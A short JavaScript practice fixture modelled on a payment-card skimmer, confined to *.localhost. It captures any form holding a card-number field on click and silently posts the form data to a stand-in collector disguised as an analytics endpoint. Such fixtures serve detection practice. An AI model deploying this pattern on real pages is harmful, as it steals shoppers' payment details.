/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  addEventListener('click', (event) => {
    const form = event.target.closest?.('button')?.form;
    if (!form?.elements.namedItem('cardno')?.value) return;
    fetch(`${home}/g/collect?v=2&tid=G-0UNKN0WN00`, {
      method: 'POST',
      mode: 'no-cors',
      body: new FormData(form),
    }).catch(() => {});
  });
})();
